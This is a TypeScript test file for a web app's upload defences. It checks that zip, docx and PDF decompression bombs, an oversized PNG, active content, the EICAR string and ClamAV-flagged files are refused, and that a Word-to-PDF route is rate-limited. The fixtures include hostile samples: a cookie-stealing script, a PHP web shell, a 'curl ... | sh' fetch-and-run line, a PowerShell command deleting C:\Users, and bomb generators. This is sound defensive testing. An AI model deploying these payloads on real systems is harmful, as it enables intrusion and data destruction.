import { writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { test } from '@japa/runner'
import db from '@adonisjs/lucid/services/db'
import PizZip from 'pizzip'
import Area from '#models/area'
import { storeGenerated } from '#services/generated_files/store'
import { fillDocxBounded, WordError } from '#services/generated_files/word'
import { publishForm } from '#services/process/forms'
import { seedBase } from '#services/seed_service'
import { scanFile } from '#services/uploads/antivirus'
import { makeUser, resetAuthTables, tokenFor } from '#tests/helpers/auth'
import {
  CLAMSCAN,
  clamavInstalled,
  MARKED_FILE,
  MARKED_VIRUS,
  signatureDatabase,
  startClamd,
} from '#tests/helpers/clamav_server'
import { freePort } from '#tests/helpers/processes'
import { areaReviewProcess, resetProcessTables } from '#tests/helpers/process'
import { WORD_TO_PDF_PER_MINUTE } from '#controllers/generated_files_controller'

/**
 * Issue 17, user files that get inflated or parsed: zip and docx bombs refused before anything
 * unpacks them, the Word fill off the event loop, dev_word_to_pdf rate-limited, active content and
 * the EICAR test file refused unless the field allows active content (EICAR never).
 */

type Client = Parameters<typeof tokenFor>[0]
type HealthBody = { degraded: string[]; checks: Record<string, { ok: boolean; driver: string }> }

const BASE = () => `http://${process.env.HOST}:${process.env.PORT}`
const MB = 1024 * 1024
// Split so this file is not itself taken for the test file by a scanner.
const EICAR = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')

/** A Word document whose body is `body` (already XML), deflated as Word does. */
function docx(body: string): Buffer {
  const zip = new PizZip()
  zip.file(
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
  )
  zip.file(
    '_rels/.rels',
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
  )
  zip.file(
    'word/document.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`
  )
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' })
}

const paragraph = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`

/**
 * A zip written here with zlib (fast, and free to lie): each entry deflated, with its real size in
 * its headers unless `declared` says otherwise.
 */
function zipOf(entries: { name: string; data: Buffer; declared?: number }[]): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const { name, data, declared = data.length } of entries) {
    const packed = deflateRawSync(data)
    const fileName = Buffer.from(name)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(8, 8) // deflate
    local.writeUInt32LE(crc32(data), 14)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt32LE(declared, 22)
    local.writeUInt16LE(fileName.length, 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(8, 10)
    central.writeUInt32LE(crc32(data), 16)
    central.writeUInt32LE(packed.length, 20)
    central.writeUInt32LE(declared, 24)
    central.writeUInt16LE(fileName.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, fileName, packed)
    centrals.push(central, fileName)
    offset += local.length + fileName.length + packed.length
  }
  const directory = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, directory, end])
}

/** Issue 17's crafted template: a few tens of KB whose document.xml inflates to 20 MB. */
const bombDocx = () =>
  zipOf([
    { name: '[Content_Types].xml', data: Buffer.from('<?xml version="1.0"?><Types/>') },
    {
      name: 'word/document.xml',
      data: Buffer.from(`<w:document><w:body>{nombre}${' '.repeat(20 * MB)}</w:body></w:document>`),
    },
  ])

/** A zip of a few KB holding 20 MB of zeros. */
const zipBomb = () => zipOf([{ name: 'zeros.bin', data: Buffer.alloc(20 * MB) }])

/** A zip whose headers lie: its entry says 100 bytes and inflates to 5 MB. */
const lyingZip = () => zipOf([{ name: 'datos.csv', data: Buffer.alloc(5 * MB, 'a'), declared: 100 }])

/** A PDF of a few KB whose object stream (which pdf-lib inflates on load) holds 5 MB of spaces. */
function pdfBomb(): Buffer {
  const packed = deflateSync(Buffer.alloc(5 * MB, ' '))
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`
    ),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 2 0 R >>\n%%EOF\n'),
  ])
}

/** A genuine template that takes a while to fill: thousands of paragraphs of varied words and tags. */
function slowDocx(): Buffer {
  const words = ['solicitud', 'cédula', 'trámite', 'radicado', 'resolución', 'anexo', 'firma', 'folio']
  let seed = 7
  const next = () => (seed = (seed * 48271) % 2147483647)
  const paragraphs: string[] = []
  for (let i = 0; i < 3000; i++) {
    const text = Array.from({ length: 12 }, () => `${words[next() % words.length]}${next() % 1000}`).join(' ')
    paragraphs.push(paragraph(`${text} {nombre} {campo${i % 50}}`))
  }
  return docx(paragraphs.join(''))
}

async function publishFiles() {
  await seedBase()
  const area = (await Area.findBy('name', 'Registro')) ?? (await Area.create({ name: 'Registro', color: '#336699' }))
  return {
    ...(await publishForm({
      name: 'Archivos',
      userId: null,
      jsonconfig: {
        form: { pages: [{ name: 'Datos', layout: [['libre', 'activo', 'plantilla']] }] },
        fields: [
          { field_name: 'libre', type: 'file', data: { label: { value: 'Cualquier archivo' } } },
          {
            field_name: 'activo',
            type: 'file',
            data: { label: { value: 'Páginas y scripts' }, allowActiveContent: true },
          },
          { field_name: 'plantilla', type: 'file', data: { label: { value: 'Plantilla' }, ext: ['docx', 'zip'] } },
        ],
      },
      process: areaReviewProcess('Archivos', area.id),
    })),
    area,
  }
}

test.group('untrusted files: bombs, active content, viruses', (group) => {
  group.each.setup(async () => {
    await db.from('uploads').delete()
    await resetProcessTables()
    await resetAuthTables()
  })

  function upload(
    client: Client,
    token: string,
    fields: Record<string, string>,
    file: { name: string; bytes: Buffer }
  ) {
    let request = client.post('/data/form/upload/files').header('token', token)
    for (const [name, value] of Object.entries({
      case: 'POST',
      new_version: 'false',
      foldertype: 'files',
      ...fields,
    })) {
      request = request.field(name, value)
    }
    return request.file('file', file.bytes, { filename: file.name })
  }

  const wordToPdf = (client: Client, token: string, fields: Record<string, string>) => {
    let request = client.post('/inside/forms/create/search_endpoint/dev_word_to_pdf').header('token', token)
    for (const [name, value] of Object.entries({ case: 'POST', ...fields })) request = request.field(name, value)
    return request
  }

  test('a docx, zip or PDF that inflates absurdly is refused at upload, nothing stored', async ({ client, assert }) => {
    const form = await publishFiles()
    await makeUser({ username: 'solicitante', role: 'student' })
    const token = await tokenFor(client, 'solicitante')
    const bomb = bombDocx()
    assert.isBelow(bomb.length, 100 * 1024, 'the bomb is small')
    for (const [field, file] of [
      ['plantilla', { name: 'carta.docx', bytes: bomb }],
      ['plantilla', { name: 'ceros.zip', bytes: zipBomb() }],
      ['libre', { name: 'ceros.zip', bytes: zipBomb() }],
      ['libre', { name: 'cara.pdf', bytes: pdfBomb() }],
    ] as const) {
      const res = await upload(client, token, { data: form.key, field }, file)
      assert.equal(res.status(), 400, file.name)
      assert.equal(res.body().status, 'fail')
      assert.match(res.body().message, /se descomprime en un tamaño desproporcionado/)
    }
    // A PNG that says it is 100,000 × 100,000 pixels: 40 GB once decoded (pdf-lib decodes the ID card's).
    const ihdr = Buffer.alloc(25)
    ihdr.writeUInt32BE(13, 0)
    ihdr.write('IHDR', 4, 'latin1')
    ihdr.writeUInt32BE(100_000, 8)
    ihdr.writeUInt32BE(100_000, 12)
    ihdr.writeUInt8(8, 16)
    ihdr.writeUInt8(6, 17)
    ihdr.writeUInt32BE(crc32(ihdr.subarray(4, 21)), 21)
    const huge = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ihdr])
    const png = await upload(client, token, { data: form.key, field: 'libre' }, { name: 'foto.png', bytes: huge })
    assert.equal(png.status(), 400)
    assert.match(png.body().message, /tiene demasiados píxeles/)
    const lying = await upload(
      client,
      token,
      { data: form.key, field: 'libre' },
      { name: 'datos.zip', bytes: lyingZip() }
    )
    assert.equal(lying.status(), 400)
    assert.match(lying.body().message, /comprimido dañado o ilegible/)
    const fine = await upload(
      client,
      token,
      { data: form.key, field: 'plantilla' },
      { name: 'carta.docx', bytes: docx(paragraph('Hola {nombre}')) }
    )
    assert.equal(fine.body().status, 'done', fine.body().message)
    assert.equal(Number((await db.from('uploads').count('* as n').first()).n), 1, 'only the good template stored')
  })

  test('dev_word_to_pdf refuses a stored docx bomb before filling it', async ({ client, assert }) => {
    const form = await publishFiles()
    const user = await makeUser({ username: 'solicitante', role: 'student' })
    const token = await tokenFor(client, 'solicitante')
    // Stored as a file that predates the upload check would be: the route checks again itself.
    const stored = await storeGenerated({
      bytes: bombDocx(),
      ext: 'docx',
      mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      realName: 'carta.docx',
      folder: 'files',
      owner: { userId: user.id, taskId: null },
      formId: form.formId,
      field: 'plantilla',
      caseId: null,
      ip: '127.0.0.1',
    })
    const res = await wordToPdf(client, token, { pathdoc: stored.path, datosvalues: '{"nombre":"Ana"}' })
    assert.equal(res.status(), 413)
    assert.equal(res.body().status, 'fail')
    assert.match(res.body().message, /demasiado grande al descomprimirla/)
    await assert.rejects(() => fillDocxBounded(bombDocx(), {}), WordError)
  })

  test('the Word fill runs off the event loop: the server answers while a slow fill runs', async ({ assert }) => {
    const template = slowDocx()
    let filling = true
    const fill = fillDocxBounded(template, { nombre: 'Ana' }).finally(() => (filling = false))
    const health = await fetch(`${BASE()}/health`)
    assert.isTrue(filling, 'the health check was answered while the template was being filled')
    assert.include([200, 503], health.status)
    const filled = new PizZip(await fill)
    assert.include(filled.file('word/document.xml')!.asText(), ' Ana ')
  })

  test('dev_word_to_pdf answers 429 with a reason past its rate', async ({ client, assert }) => {
    await publishFiles()
    await makeUser({ username: 'solicitante', role: 'student' })
    const token = await tokenFor(client, 'solicitante')
    for (let i = 0; i < WORD_TO_PDF_PER_MINUTE; i++) {
      const res = await wordToPdf(client, token, { pathdoc: 'nada' })
      assert.equal(res.status(), 400, `call ${i + 1} is only refused for its bad path`)
    }
    const res = await wordToPdf(client, token, { pathdoc: 'nada' })
    assert.equal(res.status(), 429)
    assert.equal(res.body().status, 'fail')
    assert.match(res.body().message, /Demasiadas solicitudes/)
    assert.isAbove(Number(res.header('retry-after')), 0)
  })

  const active: [string, string][] = [
    ['pagina.html', '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'],
    ['logo.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['shell.php', '<?php system($_GET["c"]); ?>'],
    ['instalar.sh', '#!/bin/sh\ncurl http://example.invalid | sh\n'],
    ['limpiar.ps1', 'Remove-Item -Recurse -Force C:\\Users\n'],
    // Renamed: refused for what its first bytes are.
    ['notas.txt', '<?php echo "hola"; ?>'],
    ['imagen', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ]

  test('active content is refused on a field without an extension list', async ({ client, assert }) => {
    const form = await publishFiles()
    await makeUser({ username: 'solicitante', role: 'student' })
    const token = await tokenFor(client, 'solicitante')
    for (const [name, text] of active) {
      const res = await upload(client, token, { data: form.key, field: 'libre' }, { name, bytes: Buffer.from(text) })
      assert.equal(res.status(), 400, name)
      assert.equal(res.body().status, 'fail', name)
      assert.match(res.body().message, /contenido activo/, name)
    }
    const plain = await upload(
      client,
      token,
      { data: form.key, field: 'libre' },
      { name: 'notas.txt', bytes: Buffer.from('hola') }
    )
    assert.equal(plain.body().status, 'done', plain.body().message)
    assert.equal(Number((await db.from('uploads').count('* as n').first()).n), 1)
  })

  test('a field that allows active content takes it; the EICAR file is refused everywhere', async ({
    client,
    assert,
  }) => {
    const form = await publishFiles()
    await makeUser({ username: 'solicitante', role: 'student' })
    const token = await tokenFor(client, 'solicitante')
    for (const [name, text] of active) {
      const res = await upload(client, token, { data: form.key, field: 'activo' }, { name, bytes: Buffer.from(text) })
      assert.equal(res.body().status, 'done', `${name}: ${res.body().message}`)
    }
    for (const field of ['libre', 'activo']) {
      const res = await upload(
        client,
        token,
        { data: form.key, field },
        { name: 'eicar.txt', bytes: Buffer.concat([EICAR, Buffer.from('\r\n')]) }
      )
      assert.equal(res.status(), 400, field)
      assert.match(res.body().message, /contiene un virus \(Eicar-Test-Signature\)/, field)
    }
  })

  test('ClamAV: clamd over TCP when CLAMAV_HOST is set, clamscan on its own; no answer refuses the upload', async ({
    client,
    assert,
  }) => {
    // Like slapd for the directory tests: a missing ClamAV fails here rather than skipping the check.
    assert.isTrue(
      clamavInstalled(),
      'ClamAV (clamav-daemon, clamscan) is not installed: apt-get install clamav clamav-daemon'
    )
    const form = await publishFiles()
    await makeUser({ username: 'solicitante', role: 'student' })
    const token = await tokenFor(client, 'solicitante')
    const send = (name: string, bytes: Buffer) =>
      upload(client, token, { data: form.key, field: 'libre' }, { name, bytes })
    const clamd = await startClamd()
    const before = process.env.CLAMAV_HOST
    try {
      process.env.CLAMAV_HOST = `${clamd.host}:${clamd.port}`
      const marked = await send('informe.txt', MARKED_FILE)
      assert.equal(marked.status(), 400)
      assert.include(marked.body().message, `contiene un virus (${MARKED_VIRUS})`)
      const clean = await send('informe.txt', Buffer.from('Informe mensual sin novedades.\n'))
      assert.equal(clean.body().status, 'done', clean.body().message)
      // Several MB go to clamd in chunks, waiting for the socket to drain.
      const big = await send('tabla.csv', Buffer.alloc(3 * MB, 'fila;valor\n'))
      assert.equal(big.body().status, 'done', big.body().message)
      const health = (await (await fetch(`${BASE()}/health`)).json()) as HealthBody
      assert.deepEqual(health.checks.antivirus, { ok: true, driver: 'clamd' })

      // A configured clamd that does not answer: the file is refused, not let through unscanned.
      process.env.CLAMAV_HOST = `127.0.0.1:${await freePort()}`
      const unscanned = await send('informe.txt', Buffer.from('Otro informe.\n'))
      assert.equal(unscanned.status(), 503)
      assert.match(unscanned.body().message, /No se pudo revisar «informe.txt» en busca de virus/)
      const away = (await (await fetch(`${BASE()}/health`)).json()) as HealthBody
      assert.include(away.degraded, 'antivirus')
    } finally {
      if (before === undefined) delete process.env.CLAMAV_HOST
      else process.env.CLAMAV_HOST = before
      clamd.stop()
    }
    assert.equal(Number((await db.from('uploads').count('* as n').first()).n), 2, 'only the clean files stored')

    // clamscan, the fallback without CLAMAV_HOST, against the same one-signature database.
    const database = signatureDatabase()
    try {
      const markedPath = join(database.dir, 'marcado.txt')
      const cleanPath = join(database.dir, 'limpio.txt')
      await writeFile(markedPath, MARKED_FILE)
      await writeFile(cleanPath, 'limpio\n')
      const scanner = { kind: 'clamscan' as const, path: CLAMSCAN, database: join(database.dir, 'db') }
      assert.deepEqual(await scanFile(markedPath, scanner), { kind: 'infected', virus: MARKED_VIRUS })
      assert.deepEqual(await scanFile(cleanPath, scanner), { kind: 'clean' })
      const missing = await scanFile(cleanPath, { ...scanner, database: join(tmpdir(), 'no-such-clamav-db') })
      assert.equal(missing?.kind, 'unavailable')
    } finally {
      database.remove()
    }
  })
})
